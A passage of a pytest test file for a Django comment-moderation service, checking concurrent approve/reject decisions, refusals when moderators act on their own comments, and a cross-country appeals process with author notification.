    """Two real database connections: approve and reject the same comment at the same moment."""
    statement = make_statement()
    comment = make_comment(statement, body="Contested comment, decided twice at once.")
    first, second = make_moderator(display_name="First"), make_moderator(display_name="Second")
    barrier = threading.Barrier(2)
    outcomes = {}

    def decide(name, action, moderator, **kwargs):
        try:
            barrier.wait()
            action(comment=comment, moderator=moderator, **kwargs)
            outcomes[name] = "won"
        except services.AlreadyDecided as error:
            outcomes[name] = error.message
        finally:
            connection.close()

    seen = {"seen": comment.fingerprint}  # both saw the same text
    threads = [
        threading.Thread(target=decide, args=("approve", services.comment_approve, first), kwargs=seen),
        threading.Thread(
            target=decide, args=("reject", services.comment_reject, second), kwargs={**seen, "reason": "spam"}
        ),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes.values()).count("won") == 1
    loser = next(message for message in outcomes.values() if message != "won")
    assert "already decided" in loser
    comment.refresh_from_db()
    decisions = ModerationEvent.objects.filter(comment=comment).exclude(action="submit")
    assert decisions.count() == 1
    assert comment.status == decisions.get().to_status


def _selected(comment):
    """A queue checkbox's value: the comment and the fingerprint of the text the queue showed."""
    return f"{comment.pk}:{comment.fingerprint}"


class TestConflictOfInterest:
    """A moderator never acts on their own comment: not through the pages, not through the services."""

    @pytest.fixture
    def own(self, statement, moderator):
        return make_comment(statement, author=moderator, body="A moderator's own comment, as a stakeholder.")

    @pytest.mark.parametrize(
        "act",
        [
            lambda c, m: services.comment_approve(comment=c, moderator=m, seen=c.fingerprint),
            lambda c, m: services.comment_reject(comment=c, moderator=m, seen=c.fingerprint, reason="spam"),
        ],
        ids=["approve", "reject"],
    )
    def test_the_services_refuse_a_decision_on_ones_own_comment(self, own, moderator, act):
        with pytest.raises(services.ConflictOfInterest, match="You wrote this comment"):
            act(own, moderator)
        assert Comment.objects.get(pk=own.pk).status == Status.PENDING
        assert not ModerationEvent.objects.filter(comment=own).exclude(action="submit").exists()

    def test_hiding_restoring_responding_and_resolving_reports_are_refused_too(self, own, moderator):
        other = make_moderator(display_name="Other")
        services.comment_approve(comment=own, moderator=other, seen=own.fingerprint)  # another may
        own.refresh_from_db()
        for act in (
            lambda: services.comment_hide(comment=own, moderator=moderator, seen=own.fingerprint, reason="spam"),
            lambda: services.response_post(
                comment=own, moderator=moderator, government="CA", body="Thank you.", language="en"
            ),
            lambda: services.flags_resolve(comment=own, moderator=moderator, seen=own.fingerprint, uphold=True),
        ):
            with pytest.raises(services.ConflictOfInterest):
                act()
        services.comment_hide(comment=own, moderator=other, seen=own.fingerprint, reason="spam")
        own.refresh_from_db()
        with pytest.raises(services.ConflictOfInterest):
            services.comment_restore(comment=own, moderator=moderator, seen=own.fingerprint)

    def test_over_http_the_pages_show_the_reason_without_buttons_and_a_forged_post_is_refused(
        self, client, statement, own, moderator
    ):
        someone_else = make_comment(statement, body="Somebody else's comment, decided as usual.")
        client.force_login(moderator)
        queue = client.get("/en/moderation/").text
        assert "Your own comment" in queue and "You wrote this comment" in queue
        assert f"Approve {own.tracking_number}" not in queue
        assert f"Approve {someone_else.tracking_number}" in queue
        detail = client.get(f"/en/moderation/comments/{own.tracking_number}/").text
        assert "You wrote this comment" in detail and "Approve and publish" not in detail
        response = client.post(
            f"/en/moderation/comments/{own.tracking_number}/approve/", {"seen": own.fingerprint}, follow=True
        )
        assert "You wrote this comment" in response.text
        assert Comment.objects.get(pk=own.pk).status == Status.PENDING
        # Another moderator's queue is the shared listing, with the buttons.
        other = Client()
        other.force_login(make_moderator(display_name="Other"))
        assert f"Approve {own.tracking_number}" in other.get("/en/moderation/").text


class TestAppeals:
    """A rejected author appeals once, within the period; a moderator of another country decides."""

    @pytest.fixture
    def canadian(self):
        return make_moderator(display_name="Camille", country="CA")

    @pytest.fixture
    def rejected(self, statement, canadian):
        author = make_user("appellant@example.org", display_name="Appellant", preferred_language="es")
        comment = make_comment(statement, author=author, body="A comment rejected, then appealed by its author.")
        services.comment_reject(comment=comment, moderator=canadian, seen=comment.fingerprint, reason="off_topic")
        comment.refresh_from_db()
        return comment

    def test_the_author_appeals_once_from_my_submissions(self, client, rejected):
        client.force_login(rejected.author)
        mine = client.get("/en/dialogue/mine/").text
        assert f"/en/dialogue/comments/{rejected.tracking_number}/appeal/" in mine
        url = f"/en/dialogue/comments/{rejected.tracking_number}/appeal/"
        empty = client.post(url, {"explanation": ""})
        assert empty.status_code == 400 and "This field is required." in empty.text
        assert client.post(url, {"explanation": "It is on topic: it answers the second directive."}).status_code == 302
        assert "Waiting for a moderator" in client.get("/en/dialogue/mine/").text
        again = client.post(url, {"explanation": "Once more, with feeling and more words."})
        assert again.status_code == 400 and "already appealed" in again.text
        assert Appeal.objects.filter(comment=rejected).count() == 1

    def test_no_appeal_after_the_period_nor_by_someone_else(self, rejected, settings):
        with pytest.raises(services.NotAllowed, match="Only the author"):
            services.appeal_submit(comment=rejected, author=make_user(), explanation="Not mine to appeal at all.")
        late = rejected.decided_at + datetime.timedelta(days=settings.APPEAL_DAYS, seconds=1)
        with time_machine.travel(late), pytest.raises(services.NotAllowed, match="time to appeal"):
            services.appeal_submit(comment=rejected, author=rejected.author, explanation="Too late by a second.")
        assert not Appeal.objects.exists()

    def test_refused_to_the_first_deciders_country_accepted_from_another(
        self, client, rejected, canadian, django_capture_on_commit_callbacks
    ):
        appeal = services.appeal_submit(comment=rejected, author=rejected.author, explanation="Please look again.")
        other_canadian = make_moderator(display_name="Claude", country="CA")
        for moderator in (canadian, other_canadian):
            with pytest.raises(services.ConflictOfInterest):
                services.appeal_decide(appeal=appeal, moderator=moderator, grant=True, note="Looks fine.")
        client.force_login(other_canadian)
        page = client.get("/en/moderation/appeals/").text
        assert "a moderator of another country decides the appeal" in page and "Decide the appeal" not in page

        mexican = make_moderator(display_name="Marisol", country="MX")
        client.force_login(mexican)
        assert "Decide the appeal" in client.get("/en/moderation/appeals/").text
        prefix = f"appeal-{appeal.pk}"
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                "/en/moderation/appeals/",
                {"appeal": appeal.pk, f"{prefix}-decision": "grant", f"{prefix}-note": "It answers the directive."},
            )
        assert response.status_code == 302
        rejected.refresh_from_db()
        appeal.refresh_from_db()
        assert rejected.status == Status.APPROVED and appeal.status == Appeal.Status.REVERSED
        assert "A comment rejected, then appealed" in client.get(rejected.statement.get_absolute_url()).text
        assert ModerationEvent.objects.filter(comment=rejected, action="appeal_reversed", actor=mexican).exists()
        # The author is told, in their language (Spanish), with the reason.
        told = [m for m in mail.outbox if m.to == ["appellant@example.org"]][-1]
        assert "apelación" in told.subject.lower() and "It answers the directive." in told.body
        report = client.get("/en/dialogue/moderation-report/").text
        assert "1 rejection appealed by its author: 1 reversed" in report

    def test_an_appeal_turned_down_keeps_the_comment_rejected(self, rejected):
        appeal = services.appeal_submit(comment=rejected, author=rejected.author, explanation="Please look again.")
        services.appeal_decide(
            appeal=appeal, moderator=make_moderator(country="US"), grant=False, note="Still off topic."
        )
        rejected.refresh_from_db()
        assert rejected.status == Status.REJECTED
        with pytest.raises(services.AlreadyDecided):
            services.appeal_decide(appeal=appeal, moderator=make_moderator(country="MX"), grant=True, note="No.")
